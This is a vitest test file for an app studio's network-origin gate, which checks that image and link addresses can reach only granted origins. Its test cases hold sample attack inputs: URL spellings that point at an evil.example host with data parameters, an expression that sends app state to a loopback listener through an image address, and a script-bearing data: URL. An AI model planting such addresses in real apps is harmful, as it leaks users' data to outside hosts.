/**
 * Issue 12, "Network means network": an Image or Link address is a request to its origin, so it
 * may reach only this app's server or an origin the component's network capability grants. Each
 * test is an attack: a literal address to a listener on loopback, to `//host`, `/\host` and the
 * other spellings a browser resolves to another origin, is refused by the gate with
 * E_NETWORK_ORIGIN (the same rule on every path); an expression, which the gate cannot judge,
 * passes the plan and is blocked where it is drawn: no `<img src>` is ever written.
 */
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { render } from 'svelte/server';
import { seededIds } from '../../src/lib/model/ids';
import type { AppModel } from '../../src/lib/model/types';
import { planOps, type Rejection } from '../../src/lib/ops/plan';
import { commitBatch } from '../../src/lib/ops/commit';
import { currentModel } from '../../src/lib/model/store';
import { fromAppFile, toAppFile } from '../../src/lib/model/appfile';
import { CompileGateCore } from '../../src/lib/code/gate-core';
import { networkErrors, nodeOrigins } from '../../src/lib/code/network';
import { judgeUrl, originSet, urlProps } from '../../src/lib/schema/urls';
import { ELEMENTS } from '../../src/lib/schema/elements';
import ViewNode from '../../src/lib/elements/ViewNode.svelte';
import { NETWORK_ORIGINS, type OriginsOf } from '../../src/lib/elements/url';
import type { ViewTreeNode } from '../../src/lib/elements/types';
import { canonical, rootOf, template, templateDoc } from './helpers';
import { gateVerifier } from '../../src/lib/code/gate';

const LISTENER = 'http://127.0.0.1:45123';
const gate = new CompileGateCore();

function planned(model: AppModel, ops: unknown) {
  return planOps(model, ops, undefined, { ids: seededIds(3), verify: gate.verifier() });
}

function refusal(model: AppModel, ops: unknown): Rejection['errors'][number] {
  const before = canonical(model);
  const result = planned(model, ops);
  expect(result.ok, JSON.stringify(result)).toBe(false);
  expect(canonical(model)).toBe(before);
  return (result as Rejection).errors[0];
}

const grant = (origins: string[]) => ({
  op: 'setCapabilities',
  component: 'App',
  capabilities: { network: { origins } }
});

const todo = template('todo');
const image = (src: unknown) => ({
  op: 'addNode',
  parent: rootOf(todo),
  type: 'Image',
  id: 'pic',
  props: { src }
});

describe('the address rule (schema/urls.ts)', () => {
  it('derives the address props from the element schemas (x-url), not from a list', () => {
    const found = [...ELEMENTS.keys()].flatMap((type) =>
      [...urlProps(type)].map(([prop, kind]) => `${type}.${prop}:${kind}`)
    );
    expect(found.sort()).toEqual(['Image.src:image', 'Link.href:link']);
  });

  const granted = originSet(['https://api.example.com', `${LISTENER}`]);
  for (const [address, origin] of [
    ['//evil.example/x', 'http://evil.example'],
    ['\\\\evil.example/x', 'http://evil.example'],
    ['/\\evil.example', 'http://evil.example'],
    ['\t//evil.example', 'http://evil.example'],
    ['http:evil.example', 'http://evil.example'],
    ['HTTPS://EVIL.example:443/?d=1', 'https://evil.example'],
    ['https://api.example.com.evil.example/', 'https://api.example.com.evil.example'],
    ['https://api.example.com@evil.example/', 'https://evil.example'],
    ['http://127.0.0.1:45124/?d=x', 'http://127.0.0.1:45124']
  ]) {
    it(`${JSON.stringify(address)} names the origin ${origin}, which was not granted`, () => {
      expect(judgeUrl('image', address, granted)).toEqual({
        ok: false,
        code: 'E_NETWORK_ORIGIN',
        origin
      });
    });
  }

  it('paths on this server, inline pictures, anchors and mailto: stay on the page', () => {
    for (const address of ['/logo.png', './logo.png', 'logo.png', '?q=1', '', '  /x  '])
      expect(judgeUrl('image', address, new Set()).ok, address).toBe(true);
    expect(judgeUrl('image', 'data:image/png;base64,AA==', new Set()).ok).toBe(true);
    expect(judgeUrl('link', '#top', new Set()).ok).toBe(true);
    expect(judgeUrl('link', 'mailto:a@b.c', new Set()).ok).toBe(true);
    expect(judgeUrl('image', 'mailto:a@b.c', new Set()).ok).toBe(false);
    expect(judgeUrl('link', 'data:text/html,<script>alert(1)</script>', new Set()).ok).toBe(false);
  });

  it('a granted origin passes, whatever its spelling in the capability', () => {
    const spelled = originSet(['HTTPS://API.example.com:443']);
    expect(judgeUrl('image', 'https://api.example.com/a.png', spelled)).toEqual({
      ok: true,
      href: 'https://api.example.com/a.png',
      origin: 'https://api.example.com'
    });
    // A grant is a bare origin: a path or user info in it grants nothing.
    expect(
      originSet(['https://api.example.com/x', 'https://u@api.example.com', 'ftp://x']).size
    ).toBe(0);
  });
});

describe('the gate refuses a literal address to an origin not granted', () => {
  for (const src of [
    `${LISTENER}/?d=x`,
    '//evil.example/x',
    '/\\evil.example',
    'https://evil.example'
  ]) {
    it(`Image src ${JSON.stringify(src)}: E_NETWORK_ORIGIN, nothing planned`, () => {
      const error = refusal(todo, [image(src)]);
      expect(error.code).toBe('E_NETWORK_ORIGIN');
      expect(error.path).toMatch(/^\/nodes\/[^/]+\/props\/src$/);
      expect(error.message).toContain('network capability');
    });
  }

  it('a Link href to another origin too; setting it on an existing node as well', () => {
    const link = {
      op: 'addNode',
      parent: rootOf(todo),
      type: 'Link',
      props: { href: 'https://evil.example/?d=1' }
    };
    expect(refusal(todo, [link]).code).toBe('E_NETWORK_ORIGIN');
    const withPic = planned(todo, [image('/pic.png')]);
    if (!withPic.ok) throw new Error(JSON.stringify(withPic.errors));
    const id = withPic.idMap.pic;
    expect(
      refusal(withPic.model, [{ op: 'setProp', id, name: 'src', value: '//evil.example/x' }]).code
    ).toBe('E_NETWORK_ORIGIN');
  });

  it('with the origin in the component’s network capability it passes, granted in the same batch or before', () => {
    expect(planned(todo, [image(`${LISTENER}/pic.png`), grant([LISTENER])]).ok).toBe(true);
    const granted = planned(todo, [grant([LISTENER])]);
    if (!granted.ok) throw new Error(JSON.stringify(granted.errors));
    expect(planned(granted.model, [image(`${LISTENER}/pic.png`)]).ok).toBe(true);
  });

  it('revoking the origin under an image that uses it is refused', () => {
    const set = planned(todo, [grant([LISTENER]), image(`${LISTENER}/pic.png`)]);
    if (!set.ok) throw new Error(JSON.stringify(set.errors));
    expect(refusal(set.model, [grant([])]).code).toBe('E_NETWORK_ORIGIN');
  });

  it('a path, an inline picture and mailto: pass with no capability at all', () => {
    const result = planned(todo, [
      image('/pic.png'),
      {
        op: 'addNode',
        parent: rootOf(todo),
        type: 'Image',
        props: { src: 'data:image/png;base64,AA==' }
      },
      { op: 'addNode', parent: rootOf(todo), type: 'Link', props: { href: 'mailto:a@b.c' } },
      { op: 'addNode', parent: rootOf(todo), type: 'Link', props: { href: '#top' } }
    ]);
    expect(result.ok, JSON.stringify(result)).toBe(true);
  });

  it('the real edit path (commitBatch with the full gate, TypeScript included) refuses it and writes nothing', () => {
    const { doc, origin } = templateDoc('todo');
    const root = rootOf(currentModel(doc).model);
    const before = Y.encodeStateAsUpdate(doc);
    const result = commitBatch(
      doc,
      [{ op: 'addNode', parent: root, type: 'Image', props: { src: `${LISTENER}/?d=x` } }],
      origin,
      { verify: gateVerifier() }
    );
    expect(result.ok ? null : result.errors[0].code).toBe('E_NETWORK_ORIGIN');
    expect(Y.encodeStateAsUpdate(doc)).toEqual(before);
  });

  it('an app file (or a peer’s document) holding such a literal does not pass the gate either', () => {
    const planned_ = planOps(todo, [image('/pic.png')], undefined, { ids: seededIds(3) });
    if (!planned_.ok) throw new Error('plan');
    const file = JSON.parse(JSON.stringify(toAppFile(planned_.model))) as unknown;
    // Written by hand into the file, past the planner: as a hostile file or peer would.
    const poison = (value: unknown): void => {
      if (!value || typeof value !== 'object') return;
      const record = value as Record<string, unknown>;
      if (record.type === 'Image')
        (record.props as Record<string, unknown>).src = '//evil.example/?d=1';
      Object.values(record).forEach(poison);
    };
    poison(file);
    const loaded = fromAppFile(file);
    if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
    const compiled = gate.compile(loaded.model);
    expect(compiled.ok).toBe(false);
    expect(compiled.errors.map((e) => e.code)).toContain('E_NETWORK_ORIGIN');
    const app = [...loaded.model.components.values()].find((c) => c.name === 'App')!;
    expect(networkErrors(loaded.model, app.id)).toHaveLength(1);
  });
});

describe('an expression address passes the plan and is blocked where it is drawn', () => {
  const expr = { $expr: `'${LISTENER}/?d=' + encodeURIComponent(JSON.stringify(state.items))` };

  it('the plan and the gate accept it: its value is known only when it runs', () => {
    expect(planned(todo, [image(expr)]).ok).toBe(true);
  });

  const drawn = (src: string, originsOf?: OriginsOf) => {
    const node: ViewTreeNode = {
      type: 'Image',
      id: 'pic',
      key: 'pic',
      props: { src, alt: 'Chart' },
      children: []
    };
    const context = new Map<unknown, unknown>(originsOf ? [[NETWORK_ORIGINS, originsOf]] : []);
    return render(ViewNode, { props: { node, dispatch: () => {} }, context }).body;
  };

  it('the value it produced, on an origin not granted, is never put in an <img>', () => {
    const body = drawn(`${LISTENER}/?d=%5B%22secret%22%5D`, () => new Set());
    expect(body).not.toContain('<img');
    expect(body).not.toContain('secret');
    expect(body.replace(/<[^>]+>/g, '')).toContain(
      `Blocked image: origin ${LISTENER} is not allowed`
    );
    expect(body).toContain(`data-blocked-origin="${LISTENER}"`);
  });

  it('a page that says nothing about origins grants none', () => {
    const body = drawn('//evil.example/?d=1');
    expect(body).not.toContain('<img');
    expect(body).toContain('data-blocked-origin="http://evil.example"');
  });

  it('on the node’s own component’s granted origin, and on a path, it loads', () => {
    expect(
      drawn(`${LISTENER}/a.png`, (id) => (id === 'pic' ? new Set([LISTENER]) : new Set()))
    ).toMatch(new RegExp(`<img class="image[^"]*" src="${LISTENER}/a.png"`));
    expect(drawn('/a.png', () => new Set())).toContain('src="/a.png"');
  });

  it('a Link to an origin not granted is plain text marked as blocked, with no href', () => {
    const node: ViewTreeNode = {
      type: 'Link',
      id: 'l1',
      key: 'l1',
      props: { text: 'Open', href: 'https://evil.example/?d=secret' },
      children: []
    };
    const { body } = render(ViewNode, { props: { node, dispatch: () => {} } });
    expect(body).not.toContain('href=');
    expect(body).toContain('blocked link: origin https://evil.example is not allowed');
  });

  it('the canvas’s provider reads the node’s own component’s capability from the model', () => {
    const result = planned(todo, [image(expr), grant([LISTENER])]);
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect([...nodeOrigins(result.model, result.idMap.pic)]).toEqual([LISTENER]);
    expect([...nodeOrigins(result.model, 'nope')]).toEqual([]);
    expect([...nodeOrigins(result.model, undefined)]).toEqual([]);
  });
});

describe('the studio writing its own visual edit first (editor/local-edits.ts)', () => {
  it('refuses to write an outside address there, new or set on an element that was fine', async () => {
    const { LocalEdits } = await import('../../src/lib/editor/local-edits');
    const { doc, origin } = templateDoc('todo');
    const local = new LocalEdits(doc, origin, () => {});
    const root = rootOf(currentModel(doc).model);
    const before = Y.encodeStateVector(doc);
    const model = () => currentModel(doc).model;
    const add = (src: string) => [
      { op: 'addNode', parent: root, type: 'Image', id: 'pic', props: { src, alt: 'x' } }
    ];
    expect(local.writeRenderSafe(model(), add(`${LISTENER}/x.png`), 'visual')).toBeNull();
    expect(Y.encodeStateVector(doc)).toEqual(before);
    const added = local.writeRenderSafe(model(), add('/logo.png'), 'visual');
    expect(added?.ok).toBe(true);
    const pic = added!.ok ? added!.idMap!.pic! : '';
    const after = Y.encodeStateVector(doc);
    const retarget = [{ op: 'setProp', id: pic, name: 'src', value: `//127.0.0.1:45123/x.png` }];
    expect(local.writeRenderSafe(model(), retarget, 'visual')).toBeNull();
    expect(Y.encodeStateVector(doc)).toEqual(after);
    // The gate's own rule on that model says the same.
    expect(refusal(model(), retarget).code).toBe('E_NETWORK_ORIGIN');
  });
});
